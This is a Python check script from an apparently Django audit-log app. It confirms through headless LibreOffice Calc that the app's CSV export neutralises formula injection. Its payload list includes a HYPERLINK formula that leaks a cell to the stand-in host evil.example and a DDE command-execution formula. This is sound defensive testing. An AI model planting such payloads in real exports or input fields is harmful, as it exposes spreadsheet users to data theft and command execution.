"""Open an exported CSV full of formula payloads in LibreOffice Calc: nothing runs.

Not a test (it needs LibreOffice: ``apt-get install libreoffice-calc-nogui``).
Run from the repository root:

    .venv/bin/python bench/libreoffice_check.py

It writes two CSV files with the same injection payloads in the user agent
column: ``exported.csv`` through the app's export (neutralised), and
``control.csv`` with the raw payloads (Python's csv module, quoted, not
neutralised). Both are converted headless by Calc with formula evaluation
switched ON (CSV import filter token 13) to flat ODF (``.fods``) and back to
CSV. The script then checks the spreadsheet: the control must contain formulas
(proving that Calc would run them), the export must contain none, and every
payload must come back as the literal text the auditor sees.
"""

import csv
import io
import os
import re
import subprocess
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "project.settings")

import django  # noqa: E402

django.setup()

from sessions_audit.export import COLUMNS, iter_csv  # noqa: E402
from sessions_audit.models import Event  # noqa: E402

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]
# Separator comma, quote ", UTF-8, from line 1, ..., token 13: evaluate formulas.
IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
UA = COLUMNS.index("user_agent")


def _events() -> list[Event]:
    return [
        Event(
            id=i + 1,
            created_at=datetime(2026, 12, 3, 9, 30, tzinfo=UTC),
            event_type="login_failed",
            user_agent=payload,
            data={},
        )
        for i, payload in enumerate(PAYLOADS)
    ]


def _control() -> str:
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(["id", "user_agent"])
    for event in _events():
        writer.writerow([event.id, event.user_agent])
    return out.getvalue()


def _convert(source: Path, fmt: str, outdir: Path) -> Path:
    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{outdir}/profile",
            f"--infilter={IMPORT}",
            "--convert-to",
            fmt,
            "--outdir",
            str(outdir),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return outdir / f"{source.stem}.{fmt.split(':')[0]}"


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        tmpdir = Path(tmp)
        exported = tmpdir / "exported.csv"
        exported.write_bytes("".join(iter_csv(_events())).encode())
        control = tmpdir / "control.csv"
        control.write_bytes(_control().encode())

        results = {}
        for source in (exported, control):
            fods = _convert(source, "fods", tmpdir).read_text()
            formulas = re.findall(r'table:formula="([^"]*)"', fods)
            results[source.stem] = formulas
            print(f"{source.name}: {len(formulas)} formula cell(s) in Calc")
            for formula in formulas:
                print(f"    {formula}")

        back = _convert(exported, "csv:Text - txt - csv (StarCalc):44,34,76", tmpdir)
        rows = list(csv.reader(io.StringIO(back.read_text(), newline="")))
        seen = [row[UA] for row in rows[1:]]
        print("exported.csv as Calc shows the user agent cells:")
        for cell in seen:
            print(f"    {cell!r}")

    ok = True
    if not results["control"]:
        print("FAIL: the control evaluated no formula; the check proves nothing.")
        ok = False
    if results["exported"]:
        print("FAIL: Calc found formulas in the exported CSV.")
        ok = False
    # Calc keeps every payload as the text the export wrote; it only turns a
    # lone CR inside a cell into LF, as it does for any cell.
    expected = [
        ("'" + p if p.startswith(("=", "+", "-", "@", "\t", "\r")) else p).replace(
            "\r", "\n"
        )
        for p in PAYLOADS
    ]
    if seen != expected:
        print("FAIL: Calc shows different text than the export wrote:")
        print(f"    expected {expected!r}")
        ok = False
    print("OK: no formula from the export ran." if ok else "FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
